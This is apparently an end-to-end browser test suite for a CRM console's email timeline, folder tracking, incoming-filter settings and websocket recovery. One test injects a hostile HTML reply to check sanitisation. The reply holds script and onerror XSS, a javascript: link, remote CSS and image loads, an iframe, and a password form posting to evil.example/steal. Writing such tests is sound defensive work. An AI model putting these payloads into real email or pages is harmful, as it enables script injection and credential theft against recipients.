import type { Browser, Locator, Page, WebSocketRoute } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApi, type ApiHarness } from '../apps/api/src/testing/api-harness.ts';
import type { WorkerRuntime } from '../apps/worker/src/runtime.ts';
import { expectNoSeriousViolations } from './axe.ts';
import { launchChromium } from './browser.ts';
import { eventually, FIONA, newEmailOrganisation, timeline, type EmailOrganisation } from './email-fixture.ts';
import type { Spawned } from './processes.ts';
import { endToasts } from './toasts.ts';
import { startWeb } from './web-server.ts';
import { startWorker } from './worker-harness.ts';

let api: ApiHarness;
let worker: WorkerRuntime;
let web: { url: string; server: Spawned };
let browser: Browser;
let fixture: EmailOrganisation;
let page: Page;
const errors: string[] = [];

/** The email the salesperson sent from the opportunity, as the API has it once Sent. */
let sent: { subject: string; internetMessageId: string };

const email = (subject: string | RegExp) => page.getByRole('article', { name: subject, exact: true });
const badge = (article: Locator, text: string) => article.getByText(text, { exact: true });

beforeAll(async () => {
  api = await startApi();
  worker = await startWorker({ env: { PUBLIC_API_URL: api.baseUrl, SYNC_SWEEP_SECONDS: '1' } });
  fixture = await newEmailOrganisation(api);
  [web, browser] = await Promise.all([startWeb(api.baseUrl), launchChromium()]);
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  await page.goto(web.url);
  await page.getByLabel('Email').fill(fixture.org.email('sales.pro'));
  await page.getByLabel('Password').fill('test-password');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Mailboxes' }).waitFor();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await web?.server.stop();
  await worker?.stop();
  await api?.stop();
  await fixture?.org.emulator.stop();
});

describe('email on an opportunity in the web console', () => {
  it('sends an email from the composer, addressed to the contacts, and shows it Sent on the timeline', async () => {
    await page.getByRole('navigation').getByRole('link', { name: 'Opportunities' }).click();
    await page.getByRole('link', { name: 'Fabrikam renewal' }).click();
    await page.getByRole('heading', { name: 'Fabrikam renewal', level: 1 }).waitFor();
    await page.getByText('0 activities').waitFor();
    await expectNoSeriousViolations(page);

    const composer = page.getByRole('form', { name: 'New email' });
    expect(await composer.getByRole('textbox', { name: /^To/ }).inputValue()).toBe(FIONA);
    await composer.getByRole('textbox', { name: /^Subject/ }).fill('Renewal proposal');
    await composer
      .getByRole('textbox', { name: /^Message/ })
      .fill('Dear Fiona,\n\nHere is our proposal for <next year>.\nBest regards');
    await composer.getByRole('button', { name: 'Send' }).click();
    await composer.getByText('Email queued').waitFor();

    const outgoing = email(/^Renewal proposal CRM:\d{7}$/);
    await outgoing.waitFor();
    await badge(outgoing, 'Sent').waitFor({ timeout: 30_000 });
    expect(await outgoing.textContent()).toContain('Outgoing');
    // What was typed went out as text in paragraphs, never as markup.
    const body = outgoing.getByRole('group', { name: /^Message:/ });
    const html = await body.innerHTML();
    expect(html).toContain('<p>Dear Fiona,</p>');
    expect(html).toContain('<p>Here is our proposal for &lt;next year&gt;.<br>Best regards</p>');
    await page.getByText('1 activity', { exact: true }).waitFor();

    const page1 = await eventually(
      () => timeline(fixture.salesPro, fixture.opportunityId),
      (t) => t.edges.some((e) => e.node.status === 'SENT' && e.node.internetMessageId),
      'the Sent email with its internetMessageId',
    );
    sent = page1.edges.find((e) => e.node.status === 'SENT')!.node;
    expect(await outgoing.getByRole('heading').textContent()).toBe(sent.subject);
    await expectNoSeriousViolations(page);
  });

  it('shows the contact’s reply in the same conversation as it arrives, without a reload', async () => {
    // A reload would lose this mark.
    await page.evaluate('window.__sameDocument = true');
    await fixture.deliver(fixture.org.email('sales.pro'), {
      from: FIONA,
      to: [fixture.org.email('sales.pro')],
      subject: `RE: ${sent.subject}`,
      body: { contentType: 'html', content: '<p>Thanks, the proposal looks good.</p>' },
      inReplyTo: sent.internetMessageId,
    });

    const reply = email(`RE: ${sent.subject}`);
    await reply.getByText('Thanks, the proposal looks good.').waitFor({ timeout: 30_000 });
    await badge(reply, 'Received').waitFor();
    expect(await reply.textContent()).toContain('Incoming');
    expect(await reply.textContent()).toContain(FIONA);
    await page.getByText('Conversation of 2 emails').waitFor();
    await page.getByText('2 activities', { exact: true }).waitFor();
    expect(await page.evaluate('window.__sameDocument')).toBe(true);
  });

  it('shows a hostile reply as text, running none of its scripts and loading nothing remote', async () => {
    const remote: string[] = [];
    const record = (request: { url(): string }) => {
      if (request.url().includes('evil.example')) remote.push(request.url());
    };
    page.on('request', record);
    await fixture.deliver(fixture.org.email('sales.pro'), {
      from: FIONA,
      to: [fixture.org.email('sales.pro')],
      subject: `RE: ${sent.subject} (quote)`,
      body: {
        contentType: 'html',
        content:
          '<p>Here is the <b>signed quote</b>.</p><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">' +
          '<a href="javascript:window.__pwned=3">Open the quote</a>' +
          '<style>body { background: url(https://evil.example/css-body) }</style>' +
          '<div style="background-image: url(https://evil.example/css-inline)">Terms</div>' +
          '<img src="https://evil.example/pixel.png" alt="tracking pixel">' +
          '<iframe src="https://evil.example/frame"></iframe>' +
          '<form action="https://evil.example/steal"><input name="password"></form>',
      },
      inReplyTo: sent.internetMessageId,
    });

    const hostile = email(`RE: ${sent.subject} (quote)`);
    await hostile.getByText('signed quote').waitFor({ timeout: 30_000 });
    expect(await hostile.getByText('Here is the signed quote.').isVisible()).toBe(true);
    // Give a handler that slipped through the time to run.
    await page.waitForTimeout(500);
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(await page.evaluate(`[...document.scripts].some((s) => s.textContent.includes('__pwned'))`)).toBe(false);
    expect(await page.evaluate(`document.querySelectorAll('[onerror]').length`)).toBe(0);
    // The link is no longer a script, and clicking it runs nothing.
    const link = hostile.getByText('Open the quote');
    expect(await link.evaluate((a) => a.getAttribute('href') ?? '')).not.toMatch(/^javascript:/i);
    await link.click({ force: true });
    await page.waitForTimeout(200);
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    // No frame, form, style sheet or remote image came through, and nothing was fetched from the sender's host.
    expect(await hostile.evaluate((el) => el.querySelectorAll('iframe, form, style, input').length)).toBe(0);
    expect(await hostile.evaluate((el) => el.innerHTML)).not.toContain('evil.example/css');
    expect(remote).toEqual([]);
    page.off('request', record);
    expect(await page.evaluate('window.__sameDocument')).toBe(true);
    await page.screenshot({ path: 'test-results/opportunity-timeline.png', fullPage: true });
    await expectNoSeriousViolations(page);
  });

  it('reaches the account’s and the contact’s timelines from the opportunity', async () => {
    await page.getByRole('link', { name: 'Fabrikam', exact: true }).click();
    // Exact: a navigation keeps the opportunity ("Fabrikam renewal…") on screen while the account
    // page's code loads, and its heading contains "Fabrikam" too.
    await page.getByRole('heading', { name: 'Fabrikam', level: 1, exact: true }).waitFor();
    // The account's timeline rolls up its opportunity's email; each says what it is regarding.
    await page.getByText('3 activities', { exact: true }).waitFor();
    expect(await email(sent.subject).getByRole('link', { name: 'Fabrikam renewal' }).count()).toBe(1);
    expect(await page.getByRole('form', { name: 'New email' }).count()).toBe(0);
    await expectNoSeriousViolations(page);

    await page.goBack();
    await page.getByRole('link', { name: 'Fiona Fabrikam' }).click();
    await page.getByRole('heading', { name: 'Fiona Fabrikam', level: 1, exact: true }).waitFor();
    await page.getByText('3 activities', { exact: true }).waitFor();
    await email(`RE: ${sent.subject}`).waitFor();
    await expectNoSeriousViolations(page);
  });
});

describe('folder tracking on the salesperson’s mailbox', () => {
  const upn = () => fixture.org.email('sales.pro');
  const rules = () => page.getByRole('table', { name: 'Folder tracking rules' });
  const addRule = async (folder: string, record?: string) => {
    const form = page.getByRole('form', { name: 'Add a rule' });
    await form.getByRole('combobox', { name: /^Folder/ }).selectOption({ label: folder });
    if (record !== undefined) await form.getByRole('combobox', { name: /^Regarding/ }).selectOption({ label: record });
    await form.getByRole('button', { name: 'Add rule' }).click();
  };

  it('turns folder tracking on and maps a folder to the opportunity', async () => {
    await fixture.graph(`/users/${upn()}/mailFolders/inbox/childFolders`, 'POST', { displayName: 'Fabrikam' });
    await page.getByRole('navigation').getByRole('link', { name: 'Mailboxes' }).click();
    await page.getByRole('link', { name: upn() }).click();
    await page.getByRole('heading', { name: 'Folder tracking' }).waitFor();

    const toggle = page.getByRole('switch', { name: 'Track messages moved into mapped folders' });
    expect(await toggle.isChecked()).toBe(false);
    await toggle.click();
    await expect.poll(() => toggle.isChecked()).toBe(true);
    await expect.poll(() => toggle.isDisabled()).toBe(false);
    await page.getByRole('listitem', { name: 'Folder tracking turned on' }).waitFor();
    await endToasts(page);

    await page.getByText('No folder is mapped yet.').waitFor();
    await expectNoSeriousViolations(page);
    await addRule('Inbox/Fabrikam', 'Fabrikam renewal');
    await page
      .getByRole('listitem', { name: 'Rule added' })
      .getByText('Messages you move into Inbox/Fabrikam are tracked.')
      .waitFor();
    await rules()
      .getByRole('row', { name: /Inbox\/Fabrikam/ })
      .waitFor();
    expect(
      await rules()
        .getByRole('row', { name: /Inbox\/Fabrikam/ })
        .textContent(),
    ).toContain('Opportunity: Fabrikam renewal');

    // Still on after a reload: the mailbox says so.
    await page.reload();
    await expect.poll(() => toggle.isChecked()).toBe(true);
  });

  it('says why a 26th rule is refused, and takes one once a rule is deleted', async () => {
    const mailboxId = fixture.mailboxOf('sales.pro')!;
    for (let n = 1; n <= 25; n += 1) {
      const folder = await fixture.graph(`/users/${upn()}/mailFolders/inbox/childFolders`, 'POST', {
        displayName: `Project ${String(n).padStart(2, '0')}`,
      });
      if (n === 25) continue;
      const created = await fixture.salesPro.request(
        `mutation($m: ID!, $f: String!) { createFolderTrackingRule(mailboxId: $m, folderId: $f) { id } }`,
        { m: mailboxId, f: folder.id },
      );
      expect(created.errors).toBeUndefined();
    }
    await page.reload();
    await rules()
      .getByRole('row', { name: /Inbox\/Project 24/ })
      .waitFor();

    await addRule('Inbox/Project 25');
    await page
      .getByText('A user can have at most 25 folder tracking rules; delete one before adding another.')
      .waitFor();
    expect(
      await rules()
        .getByRole('row', { name: /Inbox\/Project 25/ })
        .count(),
    ).toBe(0);

    await page.getByRole('button', { name: 'Delete the rule for Inbox/Fabrikam' }).click();
    await page.getByRole('listitem', { name: 'Rule deleted' }).waitFor();
    await expect
      .poll(() =>
        rules()
          .getByRole('row', { name: /Inbox\/Fabrikam/ })
          .count(),
      )
      .toBe(0);
    await addRule('Inbox/Project 25');
    const added = rules().getByRole('row', { name: /Inbox\/Project 25/ });
    await added.waitFor();
    expect(await added.textContent()).toContain('No record');
    await endToasts(page);
    await expectNoSeriousViolations(page);
    await page.screenshot({ path: 'test-results/mailbox-folder-tracking.png', fullPage: true });
    expect(errors).toEqual([]);
  });
});

describe('incoming email on the salesperson’s mailbox', () => {
  const MAILBOX = `query($id: ID!) { mailbox(id: $id) { incomingFilter } }`;
  const section = () => page.getByRole('region', { name: 'Incoming email', exact: true });
  const option = (label: string) => section().getByRole('radio', { name: label, exact: true });

  it('saves the incoming filter chosen, which is still chosen after a reload', async () => {
    const mailboxId = fixture.mailboxOf('sales.pro')!;
    const before = await fixture.salesPro.request(MAILBOX, { id: mailboxId });
    expect(before.data?.mailbox.incomingFilter).toBe('RESPONSES_TO_CRM_EMAIL');

    await page.getByRole('navigation').getByRole('link', { name: 'Mailboxes' }).click();
    await page.getByRole('link', { name: fixture.org.email('sales.pro') }).click();
    await section().waitFor();
    await page.getByText('Failures in a row').waitFor();
    await expect.poll(() => option('Email messages in response to CRM email').isChecked()).toBe(true);
    expect(await section().getByRole('radio').count()).toBe(5);
    const save = section().getByRole('button', { name: 'Save' });
    expect(await save.getAttribute('aria-disabled')).toBe('true');
    await expectNoSeriousViolations(page);

    await option('All email messages').check();
    await save.click();
    const saved = page.getByRole('listitem', { name: 'Incoming email setting saved' });
    await saved.getByText('Email to track: All email messages.').waitFor();
    expect(await option('All email messages').isChecked()).toBe(true);
    await expect
      .poll(async () => (await fixture.salesPro.request(MAILBOX, { id: mailboxId })).data?.mailbox.incomingFilter)
      .toBe('ALL_EMAIL');

    await page.reload();
    await section().waitFor();
    await expect.poll(() => option('All email messages').isChecked()).toBe(true);
    expect(await option('Email messages in response to CRM email').isChecked()).toBe(false);
    await page.screenshot({ path: 'test-results/mailbox-incoming-email.png', fullPage: true });
    expect(errors).toEqual([]);
  });
});

describe('the timeline after the live updates were cut off', () => {
  it('shows the email that arrived while the websocket was down once it is back, without a reload', async () => {
    // The page's websocket goes through Playwright, which can cut it and refuse new ones for a while.
    let refusing = false;
    const sockets: WebSocketRoute[] = [];
    await page.routeWebSocket(/\/graphql$/, (ws) => {
      if (refusing) return ws.close({ code: 1012, reason: 'Service restart' });
      ws.connectToServer();
      sockets.push(ws);
    });
    await page.goto(`${web.url}/opportunities/${fixture.opportunityId}`);
    await page.getByRole('heading', { name: 'Fabrikam renewal', level: 1 }).waitFor();
    await page.evaluate('window.__sameDocument = true');
    const pro = fixture.org.email('sales.pro');

    // Live first: the subscription runs over the routed socket.
    await fixture.deliver(pro, {
      from: FIONA,
      to: [pro],
      subject: `RE: ${sent.subject} (before)`,
      inReplyTo: sent.internetMessageId,
    });
    await email(`RE: ${sent.subject} (before)`).waitFor({ timeout: 30_000 });
    expect(sockets).toHaveLength(1);

    refusing = true;
    await sockets[0]!.close({ code: 1012, reason: 'Service restart' });
    await fixture.deliver(pro, {
      from: FIONA,
      to: [pro],
      subject: `RE: ${sent.subject} (meanwhile)`,
      inReplyTo: sent.internetMessageId,
    });
    await eventually(
      () => timeline(fixture.salesPro, fixture.opportunityId),
      (t) => t.edges.some((e) => e.node.subject === `RE: ${sent.subject} (meanwhile)`),
      'the email delivered while the websocket was down',
    );
    expect(await email(`RE: ${sent.subject} (meanwhile)`).count()).toBe(0);

    refusing = false;
    await email(`RE: ${sent.subject} (meanwhile)`).waitFor({ timeout: 30_000 });
    expect(sockets.length).toBeGreaterThan(1);
    expect(await page.evaluate('window.__sameDocument')).toBe(true);
    expect(errors).toEqual([]);
  });
});
